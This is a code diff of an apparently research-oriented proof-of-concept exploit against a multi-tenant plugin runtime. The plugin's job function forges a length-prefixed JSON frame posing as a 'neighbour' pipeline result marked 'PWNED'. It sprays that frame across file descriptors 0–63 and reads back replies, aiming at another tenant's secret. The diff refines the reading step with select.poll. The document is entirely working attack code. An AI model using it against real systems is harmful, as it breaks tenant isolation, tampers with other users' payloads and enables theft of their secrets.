@@ -4,15 +4,17 @@
 # success looks like: TENANT-B-SECRET, or PWNED in the neighbour's payloads
 def job(plugin):
   @LIBC@
+  select = sys.modules['select']
   body = b'{"did":"payload","fields":{"EXEC_RESULT":"PWNED","EE_PAYLOAD_PATH":["x","neighbour","CUSTOM_EXEC_01","one"],"PIPELINE":"neighbour","INSTANCE_ID":"one"}}'
   frame = len(body).to_bytes(4, 'big') + body
   answers = []
   for fd in range(0, 64):
     try:
-      os.set_blocking(fd, False)
       answers.append((fd, os.write(fd, frame)))
-      answers.append((fd, os.read(fd, 4000)))
+      watch = select.poll()
+      watch.register(fd, 1)
+      if watch.poll(0):
+        answers.append((fd, os.read(fd, 4000)))
     except OSError:
       pass
-  os.set_blocking(3, True)
   return answers
